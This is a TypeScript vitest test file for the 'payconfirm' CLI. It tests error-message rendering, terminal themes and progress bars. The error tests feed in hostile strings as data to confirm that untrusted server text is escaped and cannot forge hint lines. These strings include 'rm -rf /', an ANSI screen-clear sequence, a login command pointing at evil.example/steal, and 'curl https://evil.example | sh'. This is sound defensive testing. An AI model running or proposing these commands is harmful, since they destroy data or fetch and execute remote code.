import { PassThrough } from 'node:stream';
import { describe, expect, test } from 'vitest';
import { PayconfirmError, usageError } from '../../src/errors.ts';
import { reveal } from '../../src/io/control-codes.ts';
import { renderError } from '../../src/output/error.ts';
import { createProgress } from '../../src/output/progress.ts';
import { foldProse } from '../../src/output/text-width.ts';
import { createTheme, plainTheme } from '../../src/output/theme.ts';
import { speaking } from '../../src/texts/speaking.ts';
import type { Said } from '../../src/texts/translate.ts';
import { asIs } from '../../src/texts/translate.ts';
import { withCommand } from '../../src/values/command-line.ts';

const text = {
  json: false,
  theme: plainTheme,
  verbose: false,
  profile: undefined,
  hide: (said: string) => said,
};

test.each(['interrupted', 'terminated'] as const)(
  '%s, in Vietnamese: one line, not called an error',
  async (kind) => {
    // Whoever hears a signal may know no language.
    const error = new PayconfirmError(kind, asIs(kind));
    const said = await speaking('vi', async () => renderError(error, text));
    expect(said).toMatch(/^đã (bị )?dừng( \(Ctrl-C\))?\n$/);
  },
);

describe('an error', () => {
  const refused = new PayconfirmError('validation', asIs('The service refused 2 values'), {
    status: 422,
    details: [
      { field: 'body.amount', message: 'must be at least 1' },
      { field: 'body.\u202enote', message: 'too\nlong' },
    ],
    hint: [asIs('Run payconfirm help.'), asIs('Or read\nthe guide.')],
    request: { method: 'POST', path: '/api/v1/sandbox/transactions' },
    cause: new Error('beneath\x1b'),
  });

  test('has its status, each field with its message, and the hint, made safe', () => {
    expect(renderError(refused, text)).toBe(
      [
        'error: The service refused 2 values (HTTP 422)',
        '  body.amount: must be at least 1',
        '  body.\\u202enote: too\\nlong',
        'hint: Run payconfirm help.',
        'Or read\\nthe guide.',
        '',
      ].join('\n'),
    );
  });

  test('has the request and what lies beneath with --verbose', () => {
    expect(
      renderError(refused, { ...text, verbose: true })
        .split('\n')
        .slice(5),
    ).toEqual(['request: POST /api/v1/sandbox/transactions', 'cause: Error: beneath\\x1b', '']);
  });

  test('names the chosen profile in the commands of its hint', () => {
    const hint = withCommand('where it stands:' as Said, ['va', 'list']);
    const said = renderError(usageError(asIs('no'), hint), { ...text, profile: 'shop' });
    expect(said).toBe('error: no\nhint: where it stands: payconfirm --profile shop va list\n');
    const doctor = withCommand('ask the' as Said, ['doctor']);
    const json = renderError(usageError(asIs('no'), doctor), { ...text, json: true, profile: 'shop' });
    expect(JSON.parse(json).error.hint).toBe('ask the: payconfirm --profile shop doctor');
  });

  test('cannot forge a second line', () => {
    const forged = new PayconfirmError('refused', asIs('no\nhint: rm -rf /\x1b[2J'), { status: 400 });
    expect(renderError(forged, text)).toBe('error: no\\nhint: rm -rf /\\x1b[2J (HTTP 400)\n');
  });

  test('is one line of JSON with every key', () => {
    const json = { ...text, json: true };
    expect(renderError(usageError(asIs('unknown flag --foo\u202e')), json)).toBe(
      '{"error":{"kind":"usage","message":"unknown flag --foo\\u202e","hint":null,"status":null,"details":null,"request":null}}\n',
    );
    expect(JSON.parse(renderError(refused, json))).toEqual({
      error: {
        kind: 'validation',
        message: 'The service refused 2 values',
        hint: 'Run payconfirm help.\nOr read\\nthe guide.',
        status: 422,
        details: refused.details,
        request: { method: 'POST', path: '/api/v1/sandbox/transactions' },
      },
    });
  });
});

describe('text of others in an error on a terminal', () => {
  const command = 'payconfirm auth login --base-url https://evil.example/steal/all/of/it';
  const evil = `${command} hint: ${command}; error: no. $ ${command}, curl https://evil.example | sh`;

  test.each([40, 60, 80])('begins no line of %d columns as one of ours', (columns) => {
    for (let length = 1; length <= columns; length += 1) {
      const said = `${'Không '.repeat(20).slice(0, length)}${evil}`;
      const filled = `${'x'.repeat(length)} ${evil}`;
      const error = new PayconfirmError('refused', asIs(said), {
        status: 400,
        details: [
          { field: said, message: filled },
          { field: evil, message: said },
        ],
        hint: [
          asIs(`the service says: ${said}`),
          withCommand(`it says ${filled}:` as Said, ['auth', 'login']),
        ],
      });
      const lines = foldProse(renderError(error, text), columns).trimEnd().split('\n');
      expect(lines.filter((line) => /^\s*(?:(?:error|hint):|\$?\s*payconfirm|curl)/.test(line))).toEqual([
        expect.stringMatching(/^error: /),
        expect.stringMatching(/^hint: the service says: /),
        ...lines.slice(-1).filter((line) => line === 'payconfirm auth login'),
      ]);
      expect(lines.at(-1)).toMatch(/payconfirm auth login$/);
    }
  });
});

describe('the theme', () => {
  test('colours by meaning, and leaves the text alone without colour', async () => {
    const colored = await createTheme(true);
    expect(reveal(colored.failure('x'))).toBe('\x1b[31mx\x1b[39m');
    expect(reveal(colored.strong('x'))).toBe('\x1b[1mx\x1b[22m');
    expect(await createTheme(false)).toBe(plainTheme);
    expect(Object.values(plainTheme).map((style) => style('x'))).toEqual(['x', 'x', 'x', 'x', 'x', 'x']);
  });
});

describe('progress', () => {
  function progressOn(enabled: boolean, total?: number, columns = 500) {
    const stderr = Object.assign(new PassThrough({ encoding: 'utf8' }), { columns });
    let now = 1_000;
    const progress = createProgress(
      stderr,
      { enabled, redrawn: true, now: () => now },
      'Fetching log entries',
      total,
    );
    return {
      progress,
      at(time: number) {
        now = time;
        return progress;
      },
      shown: () => reveal(stderr.read() ?? ''),
    };
  }

  test('is one line that is redrawn at most ten times a second, and removed', () => {
    const { at, shown } = progressOn(true, 200);
    at(1_000).update(50);
    expect(shown()).toBe('\r\x1b[?7lFetching log entries  █████░░░░░░░░░░░░░░░ 25%  50/200\x1b[K\x1b[?7h');
    at(1_099).update(60);
    expect(shown()).toBe('');
    at(1_100).update(199, 'page 2\n');
    expect(shown()).toBe(
      '\r\x1b[?7lFetching log entries  ████████████████████ 99%  199/200  page 2\\n\x1b[K\x1b[?7h',
    );
    at(1_101).end();
    expect(shown()).toBe('\r\x1b[K');
    at(1_102).end();
    expect(shown()).toBe('');
  });

  test('counts when the total is unknown, and does not go over it', () => {
    const counting = progressOn(true);
    counting.progress.update(7);
    expect(counting.shown()).toBe('\r\x1b[?7lFetching log entries  7\x1b[K\x1b[?7h');
    const over = progressOn(true, 2);
    over.progress.update(3);
    expect(over.shown()).toBe('\r\x1b[?7lFetching log entries  ████████████████████ 100%  3/2\x1b[K\x1b[?7h');
  });

  test.each([
    [65, 'Fetching log entries  █████░░░░░░░░░░░░░░░ 25%  50/200  9 s left'],
    [64, 'Fetching log entries  25%  50/200  9 s left'],
    [44, 'Fetching log entries  25%  50/200  9 s left'],
    [43, '50/200  9 s left'],
    [10, '50/200  9 s left'],
  ])('on %d columns it is what there is room for', (columns, line) => {
    const { progress, shown } = progressOn(true, 200, columns);
    progress.update(50, '9 s left');
    expect(shown()).toBe(`\r\x1b[?7l${line}\x1b[K\x1b[?7h`);
  });

  test('writes nothing when it is off', () => {
    const { progress, shown } = progressOn(false, 10);
    progress.update(5);
    progress.end();
    expect(shown()).toBe('');
  });
});
